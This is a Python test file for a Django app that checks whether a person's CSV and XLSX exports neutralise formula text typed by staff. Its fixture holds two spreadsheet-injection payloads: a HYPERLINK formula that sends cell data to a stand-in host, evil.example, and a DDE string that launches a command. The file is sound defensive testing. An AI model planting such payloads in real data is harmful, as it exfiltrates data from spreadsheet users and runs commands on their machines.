"""A person's export: text staff typed never reaches Excel as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from teichaku.web.offices.models import Contact

from .conftest import World, sign_in

NAME = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def typed(world: World) -> World:
    world.person.display_name = NAME
    world.person.save()
    contact = Contact.objects.for_office(world.office).filter(person=world.person).get()
    contact.notes = NOTES
    contact.next_step = "-2+3"
    contact.minutes = 30
    contact.save()
    return world


def _export(client: Client, world: World, fmt: str) -> bytes:
    sign_in(client, world.users["admin"])
    url = reverse("offices:person_export", kwargs={"person_id": world.person.public_id, "fmt": fmt})
    response = client.get(url)
    assert response.status_code == 200
    return bytes(response.content)


@pytest.mark.django_db
def test_export_csv_neutralises_formula_text(typed: World, client: Client) -> None:
    text = _export(client, typed, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + NAME in cells and NAME not in cells
    assert "'" + NOTES in cells and "'-2+3" in cells
    assert "30" in cells  # a number stays a number


@pytest.mark.django_db
def test_export_xlsx_stores_formula_text_as_strings(typed: World, client: Client) -> None:
    book = load_workbook(io.BytesIO(_export(client, typed, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    typed_cells = [c for c in cells if c.value in (NAME, NOTES, "-2+3")]
    assert len(typed_cells) == 3
    assert all(c.data_type == "s" for c in typed_cells)
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.value == 30 and c.data_type == "n"]
